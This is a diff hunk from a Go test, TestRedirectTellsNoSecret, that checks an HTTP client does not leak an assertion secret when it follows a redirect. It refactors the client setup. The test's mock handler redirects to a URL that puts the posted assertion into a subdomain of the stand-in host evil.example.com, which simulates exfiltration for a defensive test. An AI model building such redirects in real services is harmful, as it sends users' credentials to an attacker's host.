@@ -235,9 +235,7 @@ func TestRedirectTellsNoSecret(t *testing.T) {
 		w.Header().Set("Location", "https://"+r.PostFormValue("assertion")+".evil.example.com/")
 		w.WriteHeader(http.StatusFound)
 	})
-	runtime := testRuntime()
-	runtime.Getenv = func(string) string { return got }
-	client := clientWith(t, quickTransport(), runtime)
+	client := clientIn(t, map[string]string{"ASSERTION": got})
 	x := testExchange(url)
 	x.Request.Sources = map[string]source.Source{"assertion": source.Env{Name: "ASSERTION"}}
 	_, err := do(t, client, x)
